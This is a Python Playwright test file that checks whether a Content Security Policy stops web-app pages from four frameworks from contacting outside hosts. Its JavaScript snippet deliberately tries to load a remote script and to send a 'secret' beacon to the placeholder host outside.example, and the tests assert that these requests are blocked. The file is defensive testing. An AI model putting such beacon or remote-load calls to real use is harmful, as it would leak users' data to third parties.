"""Pages of every framework, rich ones, ask no other host; and one that tries is stopped by the browser."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from chromium_browser import is_ours

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page, Request

pytestmark = pytest.mark.slow

STORIES = Path(__file__).parent / "stories"
FRAMEWORKS = ("gradio", "streamlit", "dash", "panel")
ASK_OTHERS = {"gradio", "dash", "panel"}
"""Their rich pages want fonts, icons or maps of other hosts, and do without."""

START_MS = 90_000
QUIET_MS = 30_000

NOTES_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
    event => window.violations.push(event.effectiveDirective + " " + event.blockedURI));
"""

TRIES = """
async () => {
    const there = "https://outside.example";
    const gone = [];
    await fetch(`${there}/fetch`).catch(() => gone.push("fetch"));
    const tried = (make) => new Promise((done) => { make(done); setTimeout(() => done("silence"), 5000); });
    const element = (name, values) => (done) => {
        const made = Object.assign(document.createElement(name), values);
        made.onload = () => done("came");
        made.onerror = () => done("failed");
        document.head.append(made);
    };
    gone.push("image " + await tried(element("img", {src: `${there}/image.png`})));
    gone.push("script " + await tried(element("script", {src: `${there}/script.js`})));
    gone.push("style " + await tried(element("link", {rel: "stylesheet", href: `${there}/style.css`})));
    new FontFace("Outside", `url(${there}/font.woff2)`).load().catch(() => null);
    navigator.sendBeacon(`${there}/beacon`, "secret");
    try { new WebSocket("wss://outside.example/socket") } catch { gone.push("socket") }
    try { new EventSource(`${there}/events`) } catch { gone.push("events") }
    await new Promise((done) => setTimeout(done, 500));
    return gone;
}
"""

STOPPED = {
    "connect-src https://outside.example/fetch",
    "img-src https://outside.example/image.png",
    "script-src-elem https://outside.example/script.js",
    "style-src-elem https://outside.example/style.css",
    "font-src https://outside.example/font.woff2",
    "connect-src https://outside.example/beacon",
    "connect-src wss://outside.example/socket",
    "connect-src https://outside.example/events",
}


@dataclass
class Seen:
    """What a page asked, and what became of it."""

    left: list[str] = field(default_factory=list[str])
    """Requests to other hosts that the browser let go."""

    stopped: list[str] = field(default_factory=list[str])
    """Requests to other hosts that it did not."""

    def note_end(self, request: Request) -> None:
        if not is_ours(request.url):
            (self.stopped if request.failure == "csp" else self.left).append(request.url)


@pytest.fixture(scope="module")
def hub(hub_of, tmp_path_factory: pytest.TempPathFactory):
    return hub_of(tmp_path_factory.mktemp("home"), {name: STORIES / f"rich_{name}.py" for name in FRAMEWORKS})


@pytest.fixture
def seen() -> Seen:
    return Seen()


@pytest.fixture
def watched(browser: Browser, seen: Seen) -> Iterator[Page]:
    """A page that notes what it is kept from, and whose every request is looked at."""
    context = browser.new_context(viewport={"width": 1200, "height": 2400})
    context.add_init_script(NOTES_VIOLATIONS)
    context.on("requestfailed", seen.note_end)
    context.on("requestfinished", seen.note_end)
    yield context.new_page()
    context.close()


def opened(page: Page, hub, name: str) -> None:
    page.goto(f"{hub.portal}/{hub.apps[name].ref}/open")
    page.wait_for_url(f"{hub.site_of(name).root}**", timeout=START_MS)
    ready = page.get_by_label("Ready") if name == "gradio" else page.get_by_text("all is here")
    ready.first.wait_for(timeout=START_MS)
    page.wait_for_load_state("networkidle", timeout=QUIET_MS)


@pytest.mark.parametrize("name", FRAMEWORKS)
def test_a_rich_page_asks_no_other_host_and_cannot(hub, watched: Page, seen: Seen, name: str) -> None:
    opened(watched, hub, name)
    assert bool(seen.stopped) == (name in ASK_OTHERS)
    watched.evaluate(TRIES)
    assert set(watched.evaluate("violations")) >= STOPPED
    assert seen.left == []


def test_without_the_policy_they_would(browser: Browser, seen: Seen) -> None:
    """What the test above would see if nothing stopped a page: the look at requests is itself looked at."""
    context = browser.new_context()
    context.on("requestfailed", seen.note_end)
    page = context.new_page()
    page.goto("data:text/html,<p>free")
    page.evaluate("fetch('https://outside.example/fetch').catch(() => null)")
    assert seen.left == ["https://outside.example/fetch"]
    context.close()
